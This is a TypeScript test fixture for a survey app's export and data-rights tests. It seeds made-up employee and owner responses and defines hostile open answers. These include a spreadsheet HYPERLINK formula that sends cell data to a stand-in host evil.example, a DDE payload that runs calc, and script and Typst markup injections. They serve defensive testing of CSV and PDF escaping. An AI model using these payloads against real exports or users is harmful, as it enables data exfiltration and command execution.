// Rounds with answers for the export and data-rights tests (and scripts/pspp-check.js), inserted directly
// the way the survey stores them: no person, no time of day, only a date.
import { loadInstrument } from '../../src/lib/domain/instrument';
import type { ScanResponse } from '../../src/lib/domain/response';
import type { Database } from '../../src/lib/server/db/client';
import { scanResponse } from '../../src/lib/server/db/schema';
import { findReportRound, type ReportRound } from '../../src/lib/server/report/publish/report-round';
import { sampleResponses } from '../../src/lib/server/report/sample-responses';
import { makeRound } from './scan-factories';

export const instrument = loadInstrument('v1');

/** Texts a hostile respondent could type, each of which a spreadsheet would otherwise run. */
export const HOSTILE_OPEN_ANSWERS = [
	'=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")',
	'+cmd|\' /C calc\'!A0',
	'-1+1',
	'@SUM(A1:A10)',
	'\t=1+1',
	'\r=1+1'
] as const;

/**
 * An open answer full of markup: HTML, Typst (the PDF is typeset by Typst), Markdown, a backslash and a
 * spreadsheet formula. Pages, PDF and exports must all show it exactly as typed.
 */
export const MARKUP_OPEN_ANSWER = '<script>alert(1)</script> <b>vet</b> #set page(width: 1pt) $x$ *y* _z_ \\ [link](x) @ref =SUM(A1)';
/** Markup that starts with a formula, which a spreadsheet would run unless the CSV neutralises it. */
export const FORMULA_MARKUP_OPEN_ANSWER = '=SUM(A1) <b>vet</b> #set page(width: 1pt) $x$ *y*';

export async function insertResponses(db: Database, roundId: string, responses: readonly ScanResponse[], submittedOn: string): Promise<void> {
	if (responses.length === 0) return;
	await db.insert(scanResponse).values(
		responses.map((r) => ({
			roundId,
			perspective: r.perspective,
			submittedOn,
			answers: { ...r.answers },
			background: { ...r.background },
			learning: { ...r.learning, barriers: [...r.learning.barriers] },
			open: { ...r.open }
		}))
	);
}

export interface RoundWithAnswers {
	round: ReportRound;
	employees: ScanResponse[];
}

/** A round of the firm with `employees` made-up employee responses and one owner response. */
export async function roundWithAnswers(
	db: Database,
	firmId: string,
	options: {
		employees: number;
		seed?: number;
		threshold?: number;
		teams?: string[];
		openAnswersVerbatim?: boolean;
		openTexts?: readonly string[];
		submittedOn?: string;
		opensOn?: string;
		closesOn?: string;
		status?: 'open' | 'paused' | 'closed';
		name?: string;
	}
): Promise<RoundWithAnswers> {
	const teams = options.teams ?? ['Bakkerij', 'Winkel'];
	const row = await makeRound(db, firmId, {
		teams,
		threshold: options.threshold ?? 5,
		openAnswersVerbatim: options.openAnswersVerbatim ?? false,
		...(options.opensOn ? { opensOn: options.opensOn } : {}),
		...(options.closesOn ? { closesOn: options.closesOn } : {}),
		...(options.status ? { status: options.status } : {}),
		...(options.name ? { name: options.name } : {})
	});
	const submittedOn = options.submittedOn ?? row.opensOn;
	const employees = sampleResponses(instrument, options.employees, 'employee', { seed: options.seed ?? 1, teams, openTexts: options.openTexts });
	await insertResponses(db, row.id, employees, submittedOn);
	await insertResponses(db, row.id, sampleResponses(instrument, 1, 'owner', { seed: (options.seed ?? 1) + 1000 }), submittedOn);
	const round = await findReportRound(db, firmId, row.id);
	if (!round) throw new Error('round not found');
	return { round, employees };
}
